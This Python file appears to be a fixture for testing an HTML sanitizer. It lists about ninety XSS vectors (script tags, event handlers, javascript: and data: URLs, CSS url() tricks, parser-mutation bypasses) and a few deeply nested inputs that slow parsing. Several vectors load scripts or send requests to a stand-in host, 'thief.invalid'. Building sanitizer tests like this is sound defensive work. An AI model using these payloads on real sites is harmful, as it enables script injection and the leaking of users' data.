"""HTML that tries to run a script, to ask another machine for something, or to lie over the page.

Each is named after its way. What a script does when it runs: it sets the page's `canary`.
"""

RUN = "window.canary=1"
ABROAD = "https://thief.invalid/x"
TRAVELS = "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5PTE8L3NjcmlwdD4="  # parent.canary=1

VECTORS = {
    "a script": f"<script>{RUN}</script>",
    "a script in capitals": f"<ScRiPt >{RUN}</sCrIpT >",
    "a script from elsewhere": f"<script src={ABROAD}.js></script>",
    "a script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "a script without an end": f"<script>{RUN}//",
    "a script after a null byte": f"<scr\0ipt>{RUN}</script>",
    "a slash for a space": f"<script/x>{RUN}</script>",
    "an error's handler": f"<img src=x onerror={RUN}>",
    "a handler in quotes": f'<img src="x" onerror="{RUN}">',
    "a handler after a slash": f"<img/src=x/onerror={RUN}>",
    "a handler after a line break": f"<img src=x\nonerror\n=\n{RUN}>",
    "a handler after a form feed": f"<img\x0csrc=x\x0conerror={RUN}>",
    "a handler out of a value": f'<img alt="`"onerror={RUN} src=x>',
    "a handler in a tag that isn't closed": f"<img src=x onerror={RUN} //",
    "a handler of svg": f"<svg onload={RUN}>",
    "a handler of a body": f"<body onload={RUN}>",
    "a handler of details": f"<details open ontoggle={RUN}>x</details>",
    "a handler of a focus": f"<b tabindex=0 autofocus onfocus={RUN}>x</b>",
    "a handler of an animation": f"<p style='animation:x' onanimationstart={RUN}>x</p>"
                                 "<style>@keyframes x{}</style>",
    "a handler of media": f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    "a handler of a marquee": f"<marquee onstart={RUN}>x</marquee>",
    "javascript:": f"<a href='javascript:{RUN}'>x</a>",
    "javascript: with entities": f"<a href='&#106;avascript&colon;{RUN}'>x</a>",
    "javascript: with a tab": f"<a href='java\tscript:{RUN}'>x</a>",
    "javascript: after a control character": f"<a href='\x01javascript:{RUN}'>x</a>",
    "vbscript:": "<a href='vbscript:msgbox(1)'>x</a>",
    "data: in a link": f"<a href='{TRAVELS}'>x</a>",
    "data: in a frame": f"<iframe src='{TRAVELS}'></iframe>",
    "a frame's own page": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "a frame of javascript:": f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "an object": f"<object data='{TRAVELS}'></object>",
    "an embedded page": f"<embed src='{TRAVELS}'>",
    "a base": f"<base href='{ABROAD}/'><a href='x'>x</a>",
    "a refresh": f"<meta http-equiv=refresh content='0;url={ABROAD}'>",
    "a style sheet": f"<link rel=stylesheet href='{ABROAD}.css'>",
    "a style that loads": f"<style>@import '{ABROAD}.css';body{{background:url({ABROAD})}}</style>",
    "a background": f"<p style='background:url({ABROAD})'>x</p>",
    "a background with an escape": f"<p style='background:\\75 rl({ABROAD})'>x</p>",
    "a background with a comment": f"<p style='background:u/**/rl({ABROAD})'>x</p>",
    "an image set": f"<p style='background:image-set(\"{ABROAD}\" 1x)'>x</p>",
    "an expression": f"<p style='width:expression({RUN})'>x</p>",
    "a binding": f"<p style='-moz-binding:url({ABROAD})'>x</p>",
    "a cover": "<div style='position:fixed;inset:0;z-index:9'><a href='https://thief.invalid'>x"
               "</a></div>",
    "a cover by margins": "<div style='margin-top:-9999px;height:99999px'>x</div>",
    "a cover by a class": "<div class='modal-backdrop navbar-fixed-top'>x</div>",
    "a picture from elsewhere": f"<img src='{ABROAD}.png'>",
    "a picture by srcset": f"<img srcset='{ABROAD}.png 1x'>",
    "a picture without a scheme": "<img src='//thief.invalid/x.png'>",
    "a picture of svg": "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" "
                        f"onload=\"{RUN}\"/>'>",
    "a picture element": f"<picture><source srcset='{ABROAD}.png'><img src=x></picture>",
    "a table's background": f"<table background='{ABROAD}.png'><tr><td>x</td></tr></table>",
    "an svg's image": f"<svg><image href='{ABROAD}.png'/></svg>",
    "an svg's script": f"<svg><script>{RUN}</script></svg>",
    "an svg's link": f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    "an svg's animation": f"<svg><a><animate attributeName=href values='javascript:{RUN}'/>"
                          "<text y=9>x</text></a></svg>",
    "an svg's use": "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
    "an svg's foreign object": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject>",
    "a formula's link": f"<math href='javascript:{RUN}'>x</math>",
    "a formula's action": f"<math><maction actiontype='statusline#x' xlink:href='javascript:{RUN}'>"
                          "x</maction></math>",
    "mutation: math and style": "<math><mtext><table><mglyph><style><!--</style>"
                                f"<img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    "mutation: svg and style": f"<svg></p><style><a title='</style><img src=x onerror={RUN}>'>",
    "mutation: form in a form": "<form><math><mtext></form><form><mglyph><style></math>"
                                f"<img src=x onerror={RUN}>",
    "mutation: noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "mutation: textarea": f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>",
    "mutation: title": f"<title><p title='</title><img src=x onerror={RUN}>'>",
    "mutation: xmp": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    "mutation: noembed": f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>",
    "mutation: template": f"<template><p title='</template><img src=x onerror={RUN}>'>",
    "mutation: select": f"<select><style></select><img src=x onerror={RUN}></style>",
    "mutation: table": f"<table><tr><td><svg><style></table><img src=x onerror={RUN}>",
    "mutation: plaintext": f"<plaintext><img src=x onerror={RUN}>",
    "a comment that ends early": f"<!--><img src=x onerror={RUN}>-->",
    "a comment with a bang": f"<!-- --!><img src=x onerror={RUN}> -->",
    "a comment of old browsers": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "cdata": f"<![CDATA[><img src=x onerror={RUN}>]]>",
    "cdata in svg": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "a processing instruction": f"<?x ><img src=x onerror={RUN}>?>",
    "a declaration": f"<!DOCTYPE x [<!ENTITY y '><img src=x onerror={RUN}>'>]>",
    "an end tag with attributes": f"</p onclick={RUN}><br onclick={RUN}>",
    "entities that become tags": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "entities twice": f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    "a form": f"<form action='{ABROAD}'><input name=x><button formaction='javascript:{RUN}'>x"
              "</button></form>",
    "a button": f"<input type=image src='{ABROAD}.png'><isindex action='javascript:{RUN}'>",
    "a name that hides the page's own": "<a id=jQuery name=base_url></a><p id=location>x</p>"
                                        "<img name=submission_id src=x>",
    "a script's hook": "<span data-link='x' class='save-icon mark-graded'>x</span>",
    "a custom element": f"<x-y onclick={RUN} is='x'>x</x-y>",
    "a dialog": f"<dialog open oncancel={RUN}>x</dialog>",
    "a popover": f"<p popover id=x onbeforetoggle={RUN}>x</p>",
    "a portal": f"<portal src='{ABROAD}'></portal>",
    "a manifest": f"<html manifest='{ABROAD}'><frameset onload={RUN}>",
    "an address that pings": f"<a href='https://x.example' ping='{ABROAD}'>x</a>",
}
# HTML whose parsing takes long, or whose result is far larger than itself.
HEAVY = {
    "deep": "<div>" * 5000 + "x",
    "deep in formats": "<p>" + "".join(f"<b a={n}>" for n in range(2000)) + "</p><p>x</p>" * 2000,
    "wide": "<td>" * 20_000,
}
